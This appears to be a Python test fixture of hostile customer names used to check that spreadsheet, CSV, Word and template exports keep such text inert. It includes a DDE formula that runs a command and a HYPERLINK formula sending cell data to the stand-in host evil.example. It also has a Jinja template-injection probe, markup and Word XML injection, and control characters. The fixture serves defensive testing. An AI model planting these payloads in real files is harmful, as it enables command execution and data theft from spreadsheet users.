"""Hostile text that must stay data in every output: the names a careless export would run.

Each value is a customer name (or contact, note…) as it could arrive in a user's file.
"""

from __future__ import annotations

LONG = "华东机电有限公司" * 1250  # 10,000 characters

HOSTILE_NAMES: dict[str, str] = {
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "plus": "+86-21-5555 上海某公司",
    "minus": "-2+3 苏州某公司",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab_inside": "杭州\t=1+1 公司",
    "markup": "[/bold]南京[bold red]某[/]公司[link=http://evil.example]点我[/link]",
    "control": "无锡\x07某\x1b[31m公司\x00有限\x0b责任",
    "jinja": "{{ cycler.__init__.__globals__ }}{% for x in range(3) %}X{% endfor %}",
    "word_xml": '</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>A&B <有限> "公司"',
    "long": LONG,
}

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
XML_ILLEGAL = "".join(chr(c) for c in range(32) if c not in (9, 10, 13))


def in_xlsx(text: str) -> str:
    """How ``text`` must read back from an .xlsx cell: characters XML cannot hold → �."""
    return "".join("\ufffd" if ch in XML_ILLEGAL else ch for ch in text)


def in_csv(text: str) -> str:
    """How ``text`` must read back from a CSV field: a formula lead gets a ' in front."""
    return "'" + text if text.startswith(FORMULA_LEADS) else text
